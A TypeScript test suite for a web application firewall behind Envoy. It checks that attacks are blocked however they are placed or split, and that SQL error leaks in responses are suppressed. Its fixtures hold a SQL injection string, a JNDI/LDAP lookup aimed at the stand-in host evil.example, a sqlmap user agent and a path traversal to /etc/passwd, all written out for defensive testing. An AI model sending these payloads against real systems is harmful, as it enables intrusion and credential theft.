// Through the real Envoy: attacks are blocked wherever they stand and however they are cut, and the byte that completes a
// held attack never reaches the service.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { setTimeout } from 'node:timers/promises';
import { cutAt, type Request } from '../../demo/stack/client.ts';
import { limits } from '../../src/base/limits.ts';
import { Front, harmlessBody, pieces, protocols } from '../support/exchange-front.ts';

const injection = "1' UNION SELECT password FROM users-- ";
// A dollar sign and a brace: a lookup, not a template.
const lookup = '\x24{jndi:ldap://evil.example/a}';
const encoded = encodeURIComponent(injection);
const form = [['content-type', 'application/x-www-form-urlencoded']] as const;
const json = [['content-type', 'application/json']] as const;
const text = [['content-type', 'text/plain']] as const;

const post = (headers: Request['headers'] & object, body: string): Request => ({
  method: 'POST',
  headers,
  body: [Buffer.from(body, 'latin1')],
});

const places: Readonly<Record<string, Request>> = {
  query: { path: `/search?q=${encoded}` },
  header: { headers: [['x-api-version', lookup]] },
  'user agent': { headers: [['user-agent', 'sqlmap/1.7']] },
  cookie: { headers: [['cookie', `session=abc; filter=${encoded}`]] },
  path: { path: '/files/..%2f..%2f..%2f..%2fetc%2fpasswd' },
  form: post(form, `name=bob&comment=${encoded}`),
  json: post(json, JSON.stringify({ user: { name: 'bob', filters: [{ where: injection }] } })),
  text: post(text, `a note: ${injection}`),
};

const held = ['streamed', 'full-duplex', 'buffered'] as const;

for (const mode of ['streamed', 'streamed-wait', 'buffered', 'buffered-partial', 'full-duplex'] as const) {
  describe(`attacks, ${mode}`, () => {
    let front: Front;
    before(async () => {
      front = await Front.start({ mode });
    });
    after(() => front.stop());

    for (const protocol of protocols) {
      it(`are blocked wherever they stand (${protocol})`, async () => {
        for (const [place, request] of Object.entries(places)) {
          const { answer, arrival } = await front.exchange(request, { protocol });
          assert.equal(answer.status, 403, `${place}: ${answer.body}`);
          assert.match(answer.body, /Request blocked/, place);
          const isHeld = held.some((one) => one === mode) || request.body === undefined;
          if (isHeld) assert.equal(arrival, undefined, `${place}: the service was contacted`);
          else assert.equal(arrival?.bodyBytes ?? 0, 0, `${place}: bytes of the body reached the service`);
        }
      });

      it(`are blocked at every cut of a short body (${protocol})`, async () => {
        const body = Buffer.from(`a=b&q=${encoded}`, 'latin1');
        for (let cut = 1; cut < body.length; cut += 1) {
          const { answer, arrival } = await front.exchange(
            { method: 'POST', headers: form, body: cutAt(body, [cut]) },
            { protocol },
          );
          assert.equal(answer.status, 403, `cut at ${cut}`);
          assert.equal(arrival?.bodyBytes ?? 0, 0, `cut at ${cut}: bytes reached the service`);
        }
      });

      it(`are blocked when the body ends with trailers (${protocol})`, async () => {
        for (const announcesTrailers of [true, false]) {
          const { answer, arrival } = await front.exchange(
            { ...post(form, `q=${encoded}`), trailers: [['x-sum', '1']], announcesTrailers },
            { protocol },
          );
          const blocked = mode === 'buffered-partial' ? [403, 413] : [403];
          assert.ok(blocked.includes(answer.status), `status ${answer.status}`);
          assert.equal(arrival?.bodyBytes ?? 0, 0);
        }
      });

      it(`are blocked in the trailers themselves (${protocol})`, async () => {
        const { answer, arrival } = await front.exchange(
          { ...post(text, 'harmless'), trailers: [['x-api-version', lookup]] },
          { protocol },
        );
        const blocked = mode === 'buffered-partial' ? [403, 413] : [403];
        assert.ok(blocked.includes(answer.status), `status ${answer.status}`);
        assert.notEqual(arrival?.state, 'complete');
      });

      it(`are blocked as the last bytes of 3 MiB (${protocol})`, async () => {
        const body = Buffer.concat([harmlessBody(3 * 1024 * 1024), Buffer.from(injection)]);
        const { answer, arrival } = await front.exchange(
          { method: 'POST', headers: text, body: pieces(body) },
          { protocol },
        );
        // Above its buffer limit Envoy refuses a body that it should buffer.
        const blocked = mode.startsWith('buffered') ? [403, 413] : [403];
        assert.ok(blocked.includes(answer.status), `status ${answer.status}`);
        assert.ok((arrival?.bodyBytes ?? 0) < body.length - injection.length, 'the attack reached the service');
      });
    }
  });
}

const leak = 'You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version';

function reflected(body: string, more: Readonly<Record<string, unknown>> = {}): Request {
  // The order itself must not look like an attack to the rules for requests: the body travels in base64.
  const order = {
    headers: { 'content-type': 'text/html' },
    encodedBody: Buffer.from(body).toString('base64'),
    ...more,
  };
  return { method: 'POST', path: '/reflect', headers: json, body: [Buffer.from(JSON.stringify(order))] };
}

describe('leaks in responses', () => {
  for (const mode of ['streamed', 'streamed-wait', 'buffered', 'full-duplex'] as const) {
    it(`never reach the client (${mode})`, async () => {
      const front = await Front.start({ mode });
      try {
        for (const protocol of protocols) {
          const short = await front.exchange(reflected(`<p>${leak}</p>`), { protocol });
          assert.doesNotMatch(short.answer.body, /SQL syntax/, `${protocol}, short`);
          assert.ok(short.answer.status === 403 || short.answer.end === 'cut', `${protocol}, short`);
          if (mode !== 'streamed-wait') assert.equal(short.answer.status, 403, 'held: a clean page');
          const paced = await front.exchange(
            reflected('<p>a line of a page</p>', { repeat: 20, pauseMs: 5, end: `<p>${leak}</p>` }),
            { protocol },
          );
          assert.doesNotMatch(paced.answer.body, /SQL syntax/, `${protocol}, paced`);
        }
      } finally {
        await front.stop();
      }
    });
  }

  it('cut the connection once a part of the page is out', async () => {
    const front = await Front.start({ mode: 'streamed' });
    try {
      for (const protocol of protocols) {
        const { answer } = await front.exchange(
          reflected('x'.repeat(1024), { repeat: 1024, pauseMs: 0, end: `<p>${leak}</p>` }),
          { protocol },
        );
        assert.doesNotMatch(answer.body, /SQL syntax/);
        assert.ok(answer.status === 403 || answer.end === 'cut', `${answer.status} ${answer.end}`);
      }
    } finally {
      await front.stop();
    }
  });
});

describe('what is told about a block', () => {
  let front: Front;
  before(async () => {
    front = await Front.start({ mode: 'streamed' });
  });
  after(() => front.stop());

  it('stands in the access log: verdict, rules, score and request id', async () => {
    const { answer } = await front.exchange({ path: `/told?q=${encoded}` });
    const id = /Request id: (\S+?)</.exec(answer.body)?.[1];
    const entry = await front.envoy.logEntry((one) => one.path === '/told');
    assert.match(entry.details ?? '', /^weir_block\{rule_id=\d+,phase=\d\}$/);
    assert.equal(entry.weir?.verdict, 'block');
    assert.equal(entry.weir?.request_id, id);
    assert.ok(Array.isArray(entry.weir?.rule_ids) && entry.weir.rule_ids.length > 0);
    assert.ok(Number(entry.weir?.score) > 0);
  });

  it('stands there for what passed, too', async () => {
    await front.exchange({ path: '/passed' });
    const entry = await front.envoy.logEntry((one) => one.path === '/passed');
    assert.deepEqual([entry.weir?.verdict, entry.weir?.score], ['allow', 0]);
  });

  it('is told to the client in JSON when it asks for it, without any rule', async () => {
    const { answer } = await front.exchange({ path: `/?q=${encoded}`, headers: [['accept', 'application/json']] });
    const page = JSON.parse(answer.body) as Record<string, string>;
    assert.deepEqual(Object.keys(page), ['error', 'request_id']);
    assert.doesNotMatch(answer.body + JSON.stringify(answer.headers), /rule|weir|sql|union|\b9\d{5}\b/i);
  });
});

describe('early verdicts', () => {
  it('answer a slow upload that never ends', async () => {
    const front = await Front.start({ mode: 'streamed' });
    try {
      for (const protocol of protocols) {
        async function* slowly(): AsyncGenerator<Uint8Array> {
          yield Buffer.from(`q=${encoded}&rest=`);
          while (true) {
            // The pace of the sender, so that the window does not fill before the verdict.
            await setTimeout(50);
            yield harmlessBody(1000).map((byte) => (byte === 0x20 ? 0x2b : byte));
          }
        }
        const { answer, arrival } = await front.exchange(
          { method: 'POST', headers: form, body: slowly() },
          { protocol },
        );
        assert.equal(answer.status, 403);
        assert.ok(answer.sentBytes < limits.holdWindowBytesMax, `${answer.sentBytes} bytes were sent`);
        assert.equal(arrival, undefined, 'the service was contacted');
      }
    } finally {
      await front.stop();
    }
  });
});
